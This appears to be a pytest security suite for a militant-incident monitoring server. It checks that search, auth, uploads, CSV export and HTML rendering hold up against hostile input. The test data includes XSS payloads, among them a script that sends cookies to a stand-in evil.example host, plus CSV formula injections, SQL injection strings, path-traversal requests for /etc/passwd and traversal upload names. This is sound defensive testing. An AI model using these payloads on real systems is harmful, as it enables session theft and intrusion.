"""Hostile input against a real ``mmon serve`` and the ``mmon`` commands.

One store holds examples/articles plus articles written to attack: text with
``<script>``, event handlers and ``javascript:`` links; a feed record whose
publisher and title are spreadsheet formulas and whose URL is ``javascript:``;
an article whose extracted event names its perpetrators and places with
formulas (= + - @). A server with a token (and a 1 MB upload limit) runs over it.

* search: FTS syntax, SQL metacharacters, a 10 kB query, unicode, NUL - a clean
  200 or a clean 400 JSON error, never a 500; the same through ``mmon search``
  (exit 0, or 1 with one line); the store is unchanged;
* writes (merge, split, undo, forget, upload; API and review forms) refuse
  without the token and with a wrong one, and change nothing;
* uploads over the limit are refused (413) and leave nothing behind; an upload's
  file name (``../../evil.html``, an absolute path) never chooses where it is written;
* no parameter reads a file: path traversal in ids, names and static paths is 404/400;
* CSV export (API and CLI) neutralises formulas with a leading apostrophe;
* article text never renders as markup, and no page has a live ``javascript:`` link.

Every process runs one copy of the package taken when the module starts
(``freeze_code``); the test process imports nothing from the package.
"""
from __future__ import annotations

import csv
import hashlib
import html
import html.parser
import http.client
import io
import json
import os
import re
import time
import subprocess
import sys
import urllib.parse
from pathlib import Path

import pytest

httpx = pytest.importorskip("httpx")

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE))
sys.path.insert(0, str(HERE.parent / "api"))
from live_server import LiveServer  # noqa: E402
from reliability_support import ROOT, freeze_code, mmon_env, needs_mmon, rows, run_mmon  # noqa: E402

pytestmark = needs_mmon

TOKEN = "sec-token-3b9f2c6d1e77"
EXAMPLES = ROOT / "examples" / "articles"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")

XSS_ARTICLE = """<script>alert('title')</script> Gunmen attack <b>police post</b> in Tank

TANK: Militants of the Tehreek-i-Taliban Pakistan attacked a police post in Tank district on Monday, killing \
three policemen, officials said. <img src=x onerror=alert(1)> The attackers escaped into the hills.

A spokesman said <script>document.location='http://evil.example/?c='+document.cookie</script> the search went on. \
Readers were told to <a href="javascript:alert(1)">click here</a> or visit javascript:alert(document.cookie) \
and [this link](javascript:alert(2)) for more. <iframe src="http://evil.example/"></iframe>
"""

FORMULA_PUBLISHER = '=HYPERLINK("http://evil.example/x","Daily")'
FORMULA_TITLE = "=1+2 Militants storm police station in Bannu"
FEED_RECORD = {
    "title": FORMULA_TITLE,
    "publisher": FORMULA_PUBLISHER,
    "url": "javascript:alert(document.domain)",
    "published": "2024-06-03",
    "text": ("BANNU: Militants of the Tehreek-i-Taliban Pakistan attacked a police station in Bannu on Sunday night, "
             "killing two policemen and injuring four others, police said.\n\nThe attackers fired rockets at the "
             "station before storming its gate, a police official said. Reinforcements reached the area after an "
             "hour and the attackers fled. The TTP claimed responsibility for the attack in a statement."),
}
POISONED_ARTICLE = """Suicide bomber strikes convoy in Mir Ali

MIR ALI: A suicide bomber rammed an explosives-laden vehicle into a military convoy in Mir Ali, North Waziristan, \
on Tuesday, killing five soldiers and wounding seven, the military said. The Hafiz Gul Bahadur group claimed the \
attack, officials said.
"""
POISON_PERPETRATORS = ["=cmd|' /C calc'!A0", "@SUM(A1:A9)"]
POISON_PLACE = {"name": "+Mir Ali", "district": "-2+3", "province": "@North Waziristan"}

# The real ingest, with an extractor whose event facts are rewritten to begin with formula characters
# (rules never read such names from text; this is what an article naming them would store).
POISON = """
import json, sys
from militant_monitor.extract.pipeline import Extractor
from militant_monitor.ingest.runner import ingest_paths
from militant_monitor.store import Store
store, path = Store(sys.argv[1]), sys.argv[2]
perps, place = json.loads(sys.argv[3]), json.loads(sys.argv[4])
ex = Extractor()

class Poisoned:
    version = ex.version

    def __call__(self, doc):
        sheet, statements = ex(doc)
        for s in statements:
            if s.entity_type == "event" and s.prop == "perpetrators":
                s.value = perps
            elif s.entity_type == "event" and s.prop == "perpetrator_ids":
                s.value = [None] * len(perps)    # names of no entity
            elif s.entity_type == "event" and s.prop == "place":
                s.value = {**s.value, **place}
        return sheet, statements

print(ingest_paths(store, [path], Poisoned()).summary())
"""

QUERIES = ['"unbalanced', "AND OR NOT", "*", "'); DROP TABLE statements;--", "NEAR(", "NEAR(Tank police, 2)",
           'Tank" OR "x', "title:Tank", "Tank*", "^Tank", "-Tank", "(Tank", "{Tank}", "%", "_", "\\", ";", "--",
           "' OR 1=1 --", '" OR ""="', "Rahmatullah' UNION SELECT sql FROM sqlite_master --",
           "شمشیر محسود", "Ṭānk 🚀 ﷽", "\u202eknaT", "word " * 2048]
CLI_QUERIES = ['"unbalanced', "AND OR NOT", "*", "'); DROP TABLE statements;--", "NEAR(", "NEAR(Tank police, 2)",
               "-Tank", "' OR 1=1 --", "Rahmatullah' UNION SELECT sql FROM sqlite_master --", "شمشیر محسود",
               "Ṭānk 🚀 ﷽", "word " * 2048]


# --- set-up -----------------------------------------------------------------------------------------------------

@pytest.fixture(scope="module")
def env(tmp_path_factory):
    root = tmp_path_factory.mktemp("security")
    code = freeze_code(root / "code")
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("PYTHONPATH", str(code))        # every mmon process runs the frozen copy
        data = root / "data"
        data.mkdir()
        db = data / "sec.db"
        inputs = root / "inputs"
        inputs.mkdir()
        (inputs / "xss-article.txt").write_text(XSS_ARTICLE, encoding="utf-8")
        (inputs / "formula-feed.jsonl").write_text(json.dumps(FEED_RECORD) + "\n", encoding="utf-8")
        (root / "poisoned.txt").write_text(POISONED_ARTICLE, encoding="utf-8")
        r = run_mmon("ingest", EXAMPLES, inputs, db=db)
        assert r.returncode == 0 and "failed 0" in r.stdout, (r.stdout, r.stderr)
        r = subprocess.run([sys.executable, "-c", POISON, str(db), str(root / "poisoned.txt"),
                            json.dumps(POISON_PERPETRATORS), json.dumps(POISON_PLACE)],
                           cwd=root, env=mmon_env(db), capture_output=True, text=True, timeout=300)
        assert r.returncode == 0 and "stored 1" in r.stdout, (r.stdout, r.stderr)
        server = LiveServer(db, TOKEN, extra=("--max-upload-mb", "1"))
        with server as base:
            with httpx.Client(base_url=base, timeout=60) as client:
                yield {"root": root, "data": data, "db": db, "client": client, "base": base, "server": server}
        log = server.output()
        assert "Traceback" not in log and "internal error" not in log, log[-3000:]


def digest(db: Path) -> str:
    """Everything the store holds, as one hash (schema, and every row of every table)."""
    h = hashlib.sha256()
    for (name, sql) in rows(db, "SELECT name, sql FROM sqlite_master ORDER BY name"):
        h.update(f"{name}\x1f{sql}\n".encode())
    for (name,) in rows(db, "SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT LIKE '%fts%' "
                            "AND name NOT LIKE 'sqlite_%' ORDER BY name"):
        for r in rows(db, f'SELECT * FROM "{name}" ORDER BY 1'):
            h.update(repr(r).encode())
    return h.hexdigest()


def tree(folder: Path) -> set[str]:
    """Every file under ``folder`` (relative paths), the store's own SQLite files left out."""
    out = {str(p.relative_to(folder)) for p in folder.rglob("*")
           if p.is_file() and not re.search(r"\.db(-wal|-shm|-journal)?$", p.name)}
    return {p for p in out if not p.startswith("code/")}


def assert_clean_error(r, *statuses):
    assert r.status_code in statuses, (r.status_code, r.text[:300])
    body = r.json()
    assert set(body) == {"error"} and body["error"] and "\n" not in body["error"], body
    assert "Traceback" not in r.text


def auth(token=TOKEN) -> dict:
    return {"Authorization": f"Bearer {token}"}


# --- search: never interpreted, never a 500 -----------------------------------------------------------------------

def test_search_syntax_never_breaks_the_server(env):
    c, db = env["client"], env["db"]
    before = digest(db)
    for q in QUERIES + ["tab\there", "nul\x00byte"]:
        for path in ("/api/search", "/api/documents"):
            r = c.get(path, params={"q": q})
            assert r.status_code in (200, 400), (path, q[:60], r.status_code, r.text[:300])
            if r.status_code == 400:
                assert_clean_error(r, 400)
            elif path == "/api/search":
                body = r.json()
                assert {"documents", "facts", "mode"} <= set(body), body
            else:
                assert "items" in r.json()
        r = c.get("/search", params={"q": q})
        assert r.status_code in (200, 400), (q[:60], r.status_code)
        assert "Traceback" not in r.text and "internal error" not in r.text
    # metacharacters are searched for as words: the words of an injection still find what they name
    r = c.get("/api/search", params={"q": "Rahmatullah' UNION SELECT sql FROM sqlite_master --"}).json()
    assert r["mode"] == "any word" and any("Rahmatullah" in json.dumps(x) for x in r["documents"] + r["facts"])
    assert c.get("/api/search", params={"q": "word " * 2048}).status_code == 400      # over 500 characters
    assert digest(db) == before
    assert rows(db, "SELECT COUNT(*) FROM statements")[0][0] > 0


def test_mmon_search_never_breaks(env):
    db = env["db"]
    before = digest(db)
    for q in CLI_QUERIES:
        r = run_mmon("search", "--", q, db=db, timeout=120)
        assert r.returncode in (0, 1), (q[:60], r.returncode, r.stderr[-500:])
        assert "Traceback" not in r.stdout + r.stderr, r.stderr[-2000:]
        if r.returncode == 1:
            lines = r.stderr.strip().splitlines()
            assert len(lines) == 1 and lines[0].startswith("error:"), (q[:60], r.stderr)
            assert "unexpected error" not in lines[0], lines[0]
        else:
            assert "Documents (" in r.stdout and "Facts (" in r.stdout, r.stdout[:300]
    assert digest(db) == before


# --- writes need the token ------------------------------------------------------------------------------------------

def test_writes_refused_without_or_with_a_wrong_token(env):
    c, db, data = env["client"], env["db"], env["data"]
    before, files = digest(db), tree(env["root"])
    doc = c.get("/api/documents", params={"per_page": 1}).json()["items"][0]["id"]
    people = c.get("/api/people", params={"per_page": 2}).json()["items"]
    a, b = people[0]["id"], people[1]["id"]
    wrong = [{}, auth("wrong-token-000000"), auth(TOKEN + "x"), auth(TOKEN[:-1]),
             {"Authorization": TOKEN}, {"Authorization": "Basic " + "dXNlcjpwYXNz"}, {"Authorization": "Bearer"},
             {"X-Token": TOKEN}, {"Cookie": f"token={TOKEN}"}]
    article = ("TANK: Militants attacked a police post in Tank on Friday, killing one policeman, officials "
               "said.\n").encode()
    for headers in wrong:
        assert_clean_error(c.post("/api/merge", json={"a": a, "b": b}, headers=headers), 401)
        assert_clean_error(c.post("/api/split", json={"entity": a}, headers=headers), 401)
        assert_clean_error(c.post("/api/undo", json={"judgement": 1}, headers=headers), 401)
        assert_clean_error(c.post("/api/forget", json={"doc_id": doc}, headers=headers), 401)
        assert_clean_error(c.post("/api/ingest", files={"file": ("a.txt", article)}, headers=headers), 401)
        assert_clean_error(c.post(f"/api/ingest?token={TOKEN}", files={"file": ("a.txt", article)},
                                  headers=headers), 401)
    for token in (None, "", "nope-nope-nope", TOKEN.upper(), TOKEN + " "):
        form = {} if token is None else {"token": token}
        for path, fields in (("/review/merge", {"a": a, "b": b}), ("/review/split", {"entity": a}),
                             ("/review/undo", {"judgement": "1"}), ("/review/forget", {"doc_id": doc})):
            r = c.post(path, data={**fields, **form})
            assert r.status_code == 401, (path, token, r.status_code)
            assert "Traceback" not in r.text
        r = c.post("/review/upload", data=form, files={"file": ("a.txt", article)})
        assert r.status_code == 401, (token, r.status_code)
    assert digest(db) == before
    assert tree(env["root"]) == files
    assert not (data / "uploads").exists() or not list((data / "uploads").iterdir())


def test_uploads_over_the_limit_are_refused(env):
    c, db = env["client"], env["db"]
    before, files = digest(db), tree(env["root"])
    over_app = b"word " * 300_000               # 1.5 MB: past the 1 MB limit, inside the request cap
    over_all = b"word " * 700_000               # 3.5 MB: past the request cap as well
    for body in (over_app, over_all):
        assert_clean_error(c.post("/api/ingest", files={"file": ("big.txt", body)}, headers=auth()), 413)
        r = c.post("/review/upload", data={"token": TOKEN}, files={"file": ("big.txt", body)})
        assert r.status_code == 413, r.status_code

    def chunked():                              # no Content-Length: counted as it arrives
        yield b'--XyZ\r\nContent-Disposition: form-data; name="file"; filename="big.txt"\r\n\r\n'
        for _ in range(4):
            yield b"x" * 1_000_000
        yield b"\r\n--XyZ--\r\n"
    r = c.post("/api/ingest", content=chunked(), headers={**auth(), "content-type": "multipart/form-data; boundary=XyZ"})
    assert_clean_error(r, 413)
    assert c.get("/healthz").status_code == 200
    assert digest(db) == before
    assert tree(env["root"]) == files


# --- no parameter reads a file ----------------------------------------------------------------------------------------

def raw_get(base: str, target: str) -> tuple[int, bytes]:
    """GET with the request target sent exactly as given (no client-side normalisation of ../)."""
    u = urllib.parse.urlsplit(base)
    conn = http.client.HTTPConnection(u.hostname, u.port, timeout=30)
    try:
        conn.putrequest("GET", target, skip_host=True, skip_accept_encoding=True)
        conn.putheader("Host", f"127.0.0.1:{u.port}")
        conn.endheaders()
        r = conn.getresponse()
        return r.status, r.read()
    finally:
        conn.close()


def test_no_parameter_reads_a_file(env):
    base, db = env["base"], env["db"]
    secret = env["root"] / "secret.txt"
    secret.write_text("TOP-SECRET-7c1d\n")
    rel = os.path.relpath(secret, ROOT)
    enc = urllib.parse.quote
    dbp = str(db)
    by_path = [
        "/api/documents/../../etc/passwd", "/api/documents/..%2F..%2F..%2Fetc%2Fpasswd",
        "/api/documents/%2Fetc%2Fpasswd", "/api/documents/" + enc(dbp, safe=""), "/api/documents/" + enc(dbp),
        "/api/documents/doc-..%2F..%2Fsecret.txt", "/api/documents/" + enc(str(secret), safe=""),
        "/api/documents/..%5C..%5Cetc%5Cpasswd", "/api/documents/%2e%2e%2f%2e%2e%2fetc%2fpasswd",
        "/documents/..%2F..%2Fetc%2Fpasswd", "/documents/" + enc(str(secret), safe=""),
        "/documents/" + enc("../" * 8 + rel, safe=""),
        "/api/people/..%2F..%2Fetc%2Fpasswd", "/people/" + enc(str(secret), safe=""),
        "/api/groups/..%2F..%2Fetc%2Fpasswd", "/groups/" + enc(str(secret), safe=""),
        "/static/../../../../../../etc/passwd", "/static/..%2F..%2F..%2F..%2F..%2Fetc%2Fpasswd",
        "/static/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd", "/static/../app.py", "/static/..%2Fapp.py",
        "/static/" + enc(str(secret), safe=""), "/static//etc/passwd", "/static/%2Fetc%2Fpasswd",
        "/static/..%5Capp.py", "/../../../etc/passwd", "/%2e%2e/%2e%2e/etc/passwd",
    ]
    by_param = [
        "/api/timeline?name=" + enc("/etc/passwd"), "/api/timeline?name=" + enc(str(secret)),
        "/api/graph?name=" + enc("../../etc/passwd"), "/timeline?name=" + enc(str(secret)),
        "/graph?name=" + enc(str(secret)), "/api/people?q=" + enc(str(secret)),
        "/api/documents?publisher=" + enc(str(secret)), "/api/events?place=" + enc("/etc/passwd"),
        "/api/events?group=" + enc(str(secret)) + "&format=csv", "/documents/x?start=0&end=" + enc(str(secret)),
        "/api/search?q=" + enc("file:///etc/passwd"), "/search?q=" + enc(str(secret)),
    ]
    leaks = (b"root:x:0:0", b"TOP-SECRET-7c1d", b"SQLite format 3", b"def create_app", b"import ")
    for target in by_path:
        status, body = raw_get(base, target)
        assert status in (400, 404), (target, status, body[:200])
        assert not any(x in body for x in leaks), (target, body[:300])
    for target in by_param:
        status, body = raw_get(base, target)
        assert status in (200, 400, 404), (target, status, body[:200])
        assert not any(x in body for x in leaks), (target, body[:300])


# --- CSV: formulas neutralised ----------------------------------------------------------------------------------------

def check_csv(text: str) -> list[dict]:
    table = list(csv.DictReader(io.StringIO(text)))
    assert table
    for r in table:
        for k, v in r.items():
            assert not (v or "").startswith(FORMULA_START), (k, v)
    return table


def test_csv_export_neutralises_formulas(env):
    c, db = env["client"], env["db"]
    events = []
    page = 1
    while True:
        body = c.get("/api/events", params={"per_page": 200, "page": page}).json()
        events += body["items"]
        if page >= body["pages"]:
            break
        page += 1
    poisoned = [e for e in events if e["perpetrators"][:2] == POISON_PERPETRATORS]
    assert len(poisoned) == 1, [e["perpetrators"] for e in events]
    ev = poisoned[0]
    assert {k: ev["place"].get(k) for k in POISON_PLACE} == POISON_PLACE      # JSON keeps the values as they are
    by_feed = [e for e in events if any(s.get("publisher") == FORMULA_PUBLISHER for s in e["sources"])]
    assert by_feed, "the feed record's event"

    r = c.get("/api/events", params={"format": "csv"})
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    cli = run_mmon("events", "--format", "csv", db=db, timeout=120)
    assert cli.returncode == 0, cli.stderr
    for text in (r.text, cli.stdout):
        table = {row["id"]: row for row in check_csv(text)}
        assert set(table) == {e["id"] for e in events}
        row = table[ev["id"]]
        assert row["perpetrators"] == "'" + "; ".join(ev["perpetrators"])
        assert row["place_name"] == "'" + POISON_PLACE["name"]
        assert row["district"] == "'" + POISON_PLACE["district"]
        assert row["province"] == "'" + POISON_PLACE["province"]
        for e in by_feed:
            if e["sources"][0].get("publisher") == FORMULA_PUBLISHER:
                assert table[e["id"]]["sources"].startswith("'" + FORMULA_PUBLISHER), table[e["id"]]["sources"]
        # a cell that only contains such characters later on is left alone
        assert all(x["killed_range"] == "" or re.fullmatch(r"\d+-\d+", x["killed_range"]) for x in table.values())
    filtered = c.get("/api/events", params={"format": "csv", "group": POISON_PERPETRATORS[0]})
    assert filtered.status_code == 200
    assert [x["id"] for x in check_csv(filtered.text)] == [ev["id"]]


# --- untrusted text never becomes markup -----------------------------------------------------------------------------

class Tags(html.parser.HTMLParser):
    """Every tag and attribute of a page, as a browser's tokenizer sees them."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))

    handle_startendtag = handle_starttag


def live_problems(page: str) -> list[str]:
    p = Tags()
    p.feed(page)
    bad = []
    for tag, attrs in p.tags:
        a = dict(attrs)
        if tag == "script" and ((a.get("src") or "").startswith("/static/") or a.get("type") == "application/json") \
                and len(a) == 1 + ("id" in a):
            continue   # this server's own script files and JSON data islands (checked in the test itself)
        if tag in ("script", "iframe", "frame", "object", "embed", "base", "math"):
            bad.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on"):
                bad.append(f"<{tag} {name}=...>")
            if name in ("href", "src", "action", "formaction", "xlink:href", "srcdoc", "data", "poster", "content"):
                v = re.sub(r"[\x00-\x20]", "", html.unescape(value or "")).lower()
                if v.startswith(("javascript:", "vbscript:", "data:text/html")) or "javascript:" in v:
                    bad.append(f"<{tag} {name}={value!r}>")
            if name == "style":
                bad.append(f"<{tag} style=...>")
    return bad


def test_article_text_never_renders_as_markup(env):
    c = env["client"]
    docs = c.get("/api/documents", params={"per_page": 200}).json()["items"]
    xss = next(d for d in docs if "alert('title')" in (d["title"] or ""))
    feed = next(d for d in docs if d["title"] == FORMULA_TITLE)
    assert feed["url"] == FEED_RECORD["url"]                # stored as given; JSON is not markup
    text = c.get(f"/api/documents/{xss['id']}").json()
    assert "<script>" in text["text"] and "javascript:alert(document.cookie)" in text["text"]
    stmt = next(s for s in text["statements"] if s["span_start"] is not None)
    people = [p["id"] for p in c.get("/api/people", params={"per_page": 200}).json()["items"]][:5]
    pages = [f"/documents/{xss['id']}", f"/documents/{feed['id']}",
             f"/documents/{xss['id']}?start={stmt['span_start']}&end={stmt['span_end']}",
             f"/documents/{xss['id']}?start=0&end={len(text['text'])}", "/documents", "/documents?q=javascript",
             "/", "/search?q=script+alert", "/search?q=javascript", "/events", "/events?place=Tank",
             "/events?place=Bannu", "/map", "/review?q=Tank", "/groups", "/groups/TTP", "/timeline?name=TTP",
             "/graph?name=TTP", "/search?q=" + urllib.parse.quote("<script>alert(1)</script>"),
             "/people?q=" + urllib.parse.quote('"><script>alert(1)</script>'),
             "/events?place=" + urllib.parse.quote('"><img src=x onerror=alert(1)>'),
             *[f"/people/{urllib.parse.quote(p, safe='')}" for p in people]]
    for path in pages:
        r = c.get(path)
        assert r.status_code == 200, (path, r.status_code, r.text[:300])
        assert r.headers["content-type"].startswith("text/html")
        csp = r.headers["content-security-policy"]
        assert "script-src 'self';" in csp and "unsafe-inline" not in csp and "unsafe-eval" not in csp
        assert not live_problems(r.text), (path, live_problems(r.text))
        assert "<iframe" not in r.text.lower(), path
        # the only scripts: this server's own files, and JSON data islands (never executed, escaped by tojson)
        for tag in re.findall(r"(?is)<script\b[^>]*>", r.text):
            assert re.fullmatch(r'<script src="/static/[\w./-]+\.js">', tag) or \
                re.fullmatch(r'<script type="application/json" id="[\w-]+">', tag), (path, tag)
        for island in re.findall(r'(?is)<script type="application/json"[^>]*>(.*?)</script>', r.text):
            assert "<" not in island, (path, island[:200])   # tojson escapes '<': no way out of the island
    doc_page = c.get(f"/documents/{xss['id']}").text
    assert "&lt;script&gt;" in doc_page and "&lt;img src=x onerror=alert(1)&gt;" in doc_page
    assert "&lt;a href=&#34;javascript:alert(1)&#34;&gt;" in doc_page or \
        "&lt;a href=&quot;javascript:alert(1)&quot;&gt;" in doc_page


# --- uploads: the client's file name never picks the place ------------------------------------------------------------

def test_upload_file_names_never_choose_where_it_is_written(env):
    c, root = env["client"], env["root"]
    outside = root / "outside"
    outside.mkdir()
    names = ["../../evil.html", "../evil.html", str(outside / "abs-evil.html"), "..\\..\\evil-win.html",
             "uploads/../../evil-nested.html", "/etc/cron.d/evil", "evil.html/../../../evil-dir.txt",
             "%2e%2e%2fevil-encoded.html", "....//....//evil-dots.html", " ../evil-space.html "]
    before = tree(root)
    stored = []
    for n, name in enumerate(names):
        body = (f"<html><head><title>Council meeting {n} in Karvan</title></head><body><article>"
                f"<p>The district council of Karvan met on day {n} to discuss roads, water and schools for the "
                f"valley; {n * 7 + 3} members attended the long session, the clerk said.</p></article></body></html>")
        via_form = n % 2 == 1
        if via_form:   # accepted at once, ingested in the background, the page redirected to its progress
            r = c.post("/review/upload", data={"token": TOKEN}, files={"file": (name, body.encode(), "text/html")})
            assert r.status_code == 303 and "job=" in r.headers["location"], (name, r.status_code, r.text[:300])
        else:
            r = c.post("/api/ingest?wait=true", files={"file": (name, body.encode(), "text/html")}, headers=auth())
            assert r.status_code == 200, (name, r.status_code, r.text[:300])
            stored += r.json()["documents"]
    for _ in range(600):   # every background job finished
        if all(j["state"] in ("done", "failed") for j in c.get("/api/jobs").json()["items"]):
            break
        time.sleep(0.1)
    after = tree(root)
    new = after - before
    assert new, "the uploads were kept in the data folder"
    assert all(re.fullmatch(r"data/uploads/upload-[^/]+\.(html|txt)", p) for p in new), sorted(new)
    assert not any("evil" in p for p in after), sorted(p for p in after if "evil" in p)
    assert not list(outside.iterdir())
    assert not Path("/etc/cron.d/evil").exists()
    for doc_id in stored:
        d = c.get(f"/api/documents/{doc_id}").json()
        assert "source_path" not in d and re.fullmatch(r"upload-[^/]+\.(html|txt)", d["source_file"]), d
